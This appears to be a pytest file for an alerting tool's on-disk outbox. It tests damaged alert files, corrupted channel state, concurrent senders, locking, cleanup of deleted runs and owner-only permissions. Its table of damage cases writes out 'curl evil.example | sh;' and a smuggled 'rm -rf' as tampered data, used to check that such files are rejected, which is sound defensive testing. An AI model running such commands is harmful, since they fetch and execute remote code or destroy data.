"""The outbox on disk: damaged files, several senders, and who may read it."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
from alerting import (
    SECONDS,
    alert,
    alert_keys_received,
    closed_address,
    keys_received,
    notifier,
    outbox_files,
    webhook,
)
from collectors import collector
from support import environment, start_python


def test_texts_in_the_outbox_are_not_sent_once_they_are_switched_off(tmp_path: Path) -> None:
    with collector() as receiver:
        notifier(tmp_path, webhook(receiver.url, texts=True)).announce([alert()])
        assert b"quarterly" in outbox_files(tmp_path, "waiting")[0].read_bytes()
        notifier(tmp_path, webhook(receiver.url)).deliver(SECONDS)
    assert json.loads(receiver.bodies[0])["alerts"][0]["texts"] is None


def rewritten(change: Callable[[bytes], bytes]) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(change(path.read_bytes()))


def replaced(make: Callable[[Path], None]) -> Callable[[Path], object]:
    def replace(path: Path) -> None:
        path.unlink()
        make(path)

    return replace


DAMAGE: dict[str, Callable[[Path], object]] = {
    "empty": rewritten(lambda content: b""),
    "cut": rewritten(lambda content: content[:-20]),
    "binary": rewritten(lambda content: bytes(range(256))),
    "other JSON": rewritten(lambda content: b'{"message": 5}'),
    "deep": rewritten(lambda content: b"[" * 100_000),
    "no alert": rewritten(lambda content: content.replace(b'"alerts":[{', b'"alerts":[],"x":[{')),
    "other kind": rewritten(lambda content: content.replace(b'"kind":"alert"', b'"kind":"summary"')),
    "other version": rewritten(lambda content: content.replace(b"critiqor.alert.v1", b"critiqor.alert.v0")),
    "other command": rewritten(lambda content: content.replace(b"critiqor explain", b"curl evil.example | sh;")),
    "two commands": rewritten(lambda content: content.replace(b"critiqor explain", b"critiqor explain; rm -rf")),
    "folder": replaced(Path.mkdir),
    "link": replaced(lambda path: path.symlink_to("/dev/zero")),
    "pipe": replaced(os.mkfifo),
}


@pytest.mark.parametrize("damage", DAMAGE)
def test_a_damaged_file_of_the_outbox_loses_no_other_alert(tmp_path: Path, damage: str) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce(alert(number) for number in range(3))
        [path] = [each for each in outbox_files(tmp_path, "waiting") if alert(1).idempotency_key in each.name]
        DAMAGE[damage](path)
        [report] = sender.deliver(SECONDS)
        assert (report.sent, report.waiting, report.damaged) == (2, 0, 1)
        # It was never sent, so it is announced again.
        assert sender.announce([alert(1)]) == 1
        sender.deliver(SECONDS)
    assert alert_keys_received(receiver) == {alert(number).idempotency_key for number in range(3)}


@pytest.mark.parametrize(
    "content",
    [b'{"failures": "x"', b'{"failures": 9, "failed_ms": 5, "retry_ms": 9000000000000000}', b'{"failures": -5}'],
)
def test_a_damaged_state_of_a_channel_stops_nothing(tmp_path: Path, content: bytes) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        (tmp_path / ".notify" / "channels" / "ops").mkdir(parents=True)
        (tmp_path / ".notify" / "channels" / "ops" / "state.json").write_bytes(content)
        sender.announce([alert()])
        [report] = sender.deliver(SECONDS)
    assert report.sent == 1


def test_several_senders_at_once_send_every_alert_once(tmp_path: Path) -> None:
    code = """
import sys
from pathlib import Path
from alerting import alert, notifier, webhook
sender = notifier(Path(sys.argv[1]), webhook(sys.argv[2]))
sender.announce(alert(number) for number in range(40))
sender.deliver(20.0)
"""
    folders = {"PYTHONPATH": str(Path(__file__).parent.parent)}
    with collector() as receiver:
        arguments = (code, tmp_path, receiver.url)
        senders = [start_python(*arguments, env=environment(tmp_path, **folders)) for _ in range(3)]
        assert [sender.communicate() and sender.returncode for sender in senders] == [0] * 3
    assert outbox_files(tmp_path, "waiting") == []
    assert sorted(keys_received(receiver)) == sorted(alert(number).idempotency_key for number in range(40))


def test_a_sender_gives_up_while_another_one_is_sending(tmp_path: Path) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce([alert()])
        with sender.outbox.channel("ops").sending(SECONDS):
            [report] = sender.deliver(0.3)
            assert (report.sent, report.waiting, receiver.requests) == (0, 1, [])
        [report] = notifier(tmp_path, webhook(receiver.url)).deliver(SECONDS)
    assert report.sent == 1


def test_alerts_of_deleted_runs_are_forgotten_and_those_of_others_are_not(tmp_path: Path) -> None:
    from critiqor.notifications.finalized import forget_deleted_runs

    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce([alert()])
        sender.deliver(SECONDS)
        (tmp_path / "run_001").mkdir()
        forget_deleted_runs(sender)
        assert len(outbox_files(tmp_path, "sent")) == 1
        (tmp_path / "run_001").rmdir()
        forget_deleted_runs(sender)
    assert outbox_files(tmp_path, "sent") == []


def test_the_outbox_can_be_read_by_the_user_only(tmp_path: Path) -> None:
    notifier(tmp_path, webhook(closed_address())).announce([alert()])
    for path in (tmp_path / ".notify").rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0
